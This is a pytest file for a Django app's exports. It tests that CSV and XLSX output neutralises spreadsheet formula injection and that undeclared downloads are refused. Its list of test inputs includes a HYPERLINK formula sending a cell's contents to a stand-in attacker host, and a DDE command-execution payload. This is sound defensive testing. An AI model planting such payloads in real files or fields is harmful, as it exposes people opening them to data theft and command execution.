"""Formula injection: text that a spreadsheet would run is exported inert, in CSV and XLSX;
numbers stay numbers. And a file from a view that skipped the download door is refused."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from common import xlsx
from common.exports import csv_text
from tests.factories import FamilyFactory, PersonFactory

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&B2,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+SUM(A1:A9)",
    "+A1",
    "-1\n=1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_beginning_a_formula_gets_a_quote(text):
    assert xlsx.neutralise_formula(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    ["Rahimova", "", "a=b", "1-2", "Oʻgʻiloy", "'quoted", "+998 90 123 45 67", "-250000"],
)
def test_other_text_is_unchanged(text):
    assert xlsx.neutralise_formula(text) == text


def test_csv_neutralises_text_and_keeps_numbers():
    text = csv_text([["=1+1", Decimal("-250000"), -3, "-x", None, "ok"]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["\ufeff'=1+1", "-250000", "-3", "'-x", "", "ok"]


def test_xlsx_text_is_text_and_a_negative_amount_a_number():
    content = xlsx.table_xlsx("t", ["a", "b", "c"], [["@SUM(A1)", Decimal("-250000"), "+998 90"]])
    sheet = load_workbook(io.BytesIO(content)).active
    text, amount, phone = sheet[2]
    assert (text.value, text.data_type) == ("'@SUM(A1)", "s")
    assert (amount.value, amount.data_type) == (-250000, "n")
    assert phone.value == "+998 90"  # a phone number reads back as typed


@pytest.mark.django_db
def test_a_name_typed_as_a_formula_leaves_the_family_list_inert(client_for, personas, samarkand):
    family = FamilyFactory(branch=samarkand, caseworker=personas.caseworker)
    PersonFactory(family=family, full_name=ATTACKS[0])
    client = client_for(personas.caseworker)
    url = reverse("beneficiaries:family_list")
    content = client.get(url, {"_export": "csv"}).content.decode()
    cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
    assert "'" + ATTACKS[0] in cells
    assert ATTACKS[0] not in cells  # never as it was typed
    book = load_workbook(io.BytesIO(client.get(url, {"_export": "xlsx"}).content))
    values = [cell for row in book.active.iter_rows() for cell in row]
    named = [cell for cell in values if cell.value and "HYPERLINK" in str(cell.value)]
    assert named and all(cell.value == "'" + ATTACKS[0] for cell in named)
    assert all(cell.data_type == "s" for cell in named)


@pytest.mark.django_db
@pytest.mark.urls("tests.common.undeclared_download_urls")
def test_a_file_from_a_view_without_a_download_kind_is_refused(client_for, personas):
    client = client_for(personas.director)
    response = client.get("/forgotten-download/")
    assert response.status_code == 403
    assert b"Rahimova" not in response.content
    assert not response.has_header("Content-Disposition")
    response = client.get("/forgotten-pdf/")  # a PDF shown inline, no Content-Disposition
    assert response.status_code == 403
    assert b"payslip" not in response.content
